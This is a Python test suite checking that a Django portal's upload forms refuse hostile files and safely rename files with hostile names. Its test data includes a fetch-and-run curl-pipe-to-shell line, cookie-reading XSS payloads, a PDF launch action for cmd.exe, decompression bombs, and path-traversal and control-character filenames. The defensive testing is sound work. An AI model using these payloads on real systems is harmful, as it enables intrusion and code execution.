"""Hostile files posted to every upload form of the portal are refused, cleanly.

The corpus is made here: renamed executables, web pages and SVG posing as PDF or PNG,
polyglots, bombs, encrypted, cut or damaged PDFs, files over the size limit. (PDFs with
scripts, actions or attached files are disarmed, not refused: test_active_pdf_uploads.py.) Each goes
to each form (application documents, need documents, the report PDF, report annexes):
no server error, the reason shown to the person, nothing saved, no file left in storage.
Good files with hostile names are kept under random names, their names made harmless.
"""

from __future__ import annotations

import io
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from labellisation.models import Attachment
from missions.models import RequestAttachment
from reports.models import MissionReport, ReportAnnex
from tests.security.upload_forms import FORMS, stored_state
from tests.security.world import World, real_pdf

pytestmark = pytest.mark.django_db


# --- The corpus. -----------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int) -> bytes:
    """A PNG of a few hundred bytes claiming side × side pixels."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def image(image_format: str, **info) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(buffer, image_format, **info)
    return buffer.getvalue()


def jpeg_bomb() -> bytes:
    """A real small JPEG whose frame header claims 65,000 × 65,000 pixels."""
    data = bytearray(image("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def png_with_html() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "<html><body><script>alert(document.cookie)</script></body></html>")
    return image("PNG", pnginfo=info)


def pdf_html_polyglot() -> bytes:
    """A PDF that pypdf reads, with a web page in a comment right after its header."""
    pdf = real_pdf()
    end_of_header = pdf.index(b"\n") + 1
    page = b"%<html><body><script>alert(document.cookie)</script></body></html>\n"
    return pdf[:end_of_header] + page + pdf[end_of_header:]


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("lettre.pdf", b"\0" * (20 * 1024 * 1024))
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with(add) -> bytes:
    """A real one-page PDF, to which `add(writer)` adds something."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    add(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_launch_action() -> bytes:
    def launch(writer):
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return pdf_with(launch)


def pdf_without_pages() -> bytes:
    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 56 + b"\x90" * 200
PE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 44 + b"PE\0\0" + b"\x90" * 200
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "ELF executable named .pdf": ("rapport.pdf", lambda: ELF),
    "Windows executable named .png": ("photo.png", lambda: PE),
    "Windows executable named .jpg": ("photo.jpg", lambda: PE),
    "shell script named .pdf": ("lettre.pdf", lambda: SHELL),
    "web page named .pdf": ("lettre.pdf", lambda: HTML),
    "web page named .png": ("photo.png", lambda: HTML),
    "SVG named .pdf": ("lettre.pdf", lambda: SVG),
    "SVG named .png": ("schema.png", lambda: SVG),
    "PDF and web page polyglot": ("lettre.pdf", pdf_html_polyglot),
    "PNG with a web page in its header": ("photo.png", png_with_html),
    "zip bomb named .pdf": ("lettre.pdf", zip_bomb),
    "PNG decompression bomb": ("photo.png", lambda: png_bomb(100_000)),
    "PNG of 100 million pixels": ("photo.png", lambda: png_bomb(10_000)),
    "JPEG decompression bomb": ("photo.jpg", jpeg_bomb),
    "encrypted PDF": ("lettre.pdf", encrypted_pdf),
    "truncated PDF": ("lettre.pdf", lambda: real_pdf()[: len(real_pdf()) // 2]),
    "PDF header then garbage": ("lettre.pdf", lambda: b"%PDF-1.7\n" + b"\xde\xad" * 500 + b"%%EOF"),
    "PDF without pages": ("lettre.pdf", pdf_without_pages),
    "truncated PNG": ("photo.png", lambda: image("PNG")[:60]),
    "GIF named .png": ("photo.png", lambda: image("GIF")),
}


def reason(validator: Callable, content: bytes, name: str) -> str:
    """What the check says of this file, as the page must show it."""
    with pytest.raises(ValidationError) as refusal:
        validator(SimpleUploadedFile(name, content))
    return escape(refusal.value.messages[0])


@pytest.mark.parametrize("form_name", FORMS)
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason_and_nothing_is_saved(
    client, world, form_name, kind
):
    form = FORMS[form_name]
    name, make = HOSTILE[kind]
    content = make()
    before = stored_state(world)
    response = form.post(client, world, SimpleUploadedFile(name, content, "application/pdf"))
    assert response.status_code == 200
    assert reason(form.validator, content, name) in response.content.decode()
    assert stored_state(world) == before


@pytest.mark.parametrize("form_name", FORMS)
def test_a_file_over_the_size_limit_is_refused(client, world, form_name):
    assert settings.MAX_UPLOAD_SIZE == 10 * 1024 * 1024  # the default, from settings
    form = FORMS[form_name]
    pdf = real_pdf()
    content = pdf + b"%" * (settings.MAX_UPLOAD_SIZE + 1 - len(pdf))
    before = stored_state(world)
    response = form.post(client, world, SimpleUploadedFile("gros.pdf", content))
    page = response.content.decode()
    assert response.status_code == 200
    assert reason(form.validator, content, "gros.pdf") in page
    assert "10,0" in page or "10.0" in page  # the limit, as the person reads it
    assert stored_state(world) == before


@pytest.mark.parametrize("form_name", FORMS)
def test_an_empty_file_is_refused(client, world, form_name):
    before = stored_state(world)
    response = FORMS[form_name].post(client, world, SimpleUploadedFile("vide.pdf", b""))
    assert response.status_code == 200
    assert stored_state(world) == before


HOSTILE_NAMES = {
    "path traversal": "../../../../etc/cron.d/lettre.pdf",
    "windows path traversal": "..\\..\\Windows\\System32\\lettre.pdf",
    "NUL character": "lettre.pdf\x00.exe",
    "control characters": "\x1b[31mlettre\x07\r\n.pdf",
    "right-to-left override": "lettre\u202efdp.exe",
    "very long name": "a" * 1000 + ".pdf",
    "dots and spaces": " . . .pdf",
    "markup": '<img src=x onerror="alert(1)">.pdf',
}
RANDOM_NAME = re.compile(r"^[a-z]+/[A-Za-z0-9_-]{20,}$")


def stored_documents(world: World) -> list:
    return [
        *Attachment.objects.filter(application=world.draft),
        *RequestAttachment.objects.filter(request=world.need),
        *ReportAnnex.objects.filter(report=world.report),
    ]


def _key(document) -> tuple[str, int]:
    return type(document).__name__, document.pk


def _another_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)  # Letter, where the world's files are A4.
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("form_name", FORMS)
@pytest.mark.parametrize("label", HOSTILE_NAMES)
def test_a_good_file_with_a_hostile_name_is_kept_under_a_random_name(
    client, world, form_name, label
):
    before = {_key(d) for d in stored_documents(world)}
    # A file the object does not hold yet: the same content twice is refused.
    response = FORMS[form_name].post(
        client, world, SimpleUploadedFile(HOSTILE_NAMES[label], _another_pdf())
    )
    assert response.status_code == 200
    if form_name == "report PDF":
        report = MissionReport.objects.get(pk=world.report.pk)
        stored, shown = report.file.name, report.file_name
    else:
        (document,) = [d for d in stored_documents(world) if _key(d) not in before]
        stored, shown = document.file.name, document.original_name
    assert RANDOM_NAME.match(stored), stored
    assert Path(settings.MEDIA_ROOT, stored).resolve().is_relative_to(settings.MEDIA_ROOT)
    assert shown.endswith(".pdf") and len(shown) <= 150
    assert not {"/", "\\", "<", ">"} & set(shown) or label == "markup"
    assert not [c for c in shown if unicodedata.category(c)[0] == "C"]
    assert escape(shown) in response.content.decode() or form_name == "report PDF"


@pytest.mark.parametrize(
    ("content", "content_type", "extension"),
    [
        (lambda: image("PNG"), "image/png", ".png"),
        (lambda: image("JPEG"), "image/jpeg", ".jpg"),
        (lambda: _another_pdf(), "application/pdf", ".pdf"),  # Not one the report holds.
    ],
    ids=["png", "jpeg", "pdf"],
)
def test_an_annex_is_named_after_what_it_is(client, world, content, content_type, extension):
    FORMS["report annex"].post(client, world, SimpleUploadedFile("photo.exe", content()))
    annex = ReportAnnex.objects.filter(report=world.report).latest("pk")
    assert (annex.content_type, annex.original_name) == (content_type, f"photo.exe{extension}")


def big_pdf(size: int) -> bytes:
    """A readable PDF of more than `size` bytes (a long subject in its metadata)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Subject": "x" * size})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("form_name", FORMS)
def test_a_large_file_with_a_hostile_name_is_kept_too(client, world, form_name):
    # Above FILE_UPLOAD_MAX_MEMORY_SIZE, Django writes the upload to a temporary file
    # whose name ends with the uploaded name's extension.
    content = big_pdf(settings.FILE_UPLOAD_MAX_MEMORY_SIZE + 1024)
    before = {_key(d) for d in stored_documents(world)}
    response = FORMS[form_name].post(
        client, world, SimpleUploadedFile("lettre.p\x00df\u202e.exe", content)
    )
    assert response.status_code == 200
    if form_name == "report PDF":
        shown = MissionReport.objects.get(pk=world.report.pk).file_name
    else:
        (document,) = [d for d in stored_documents(world) if _key(d) not in before]
        shown = document.original_name
    assert shown == "lettre.pdf.exe.pdf"
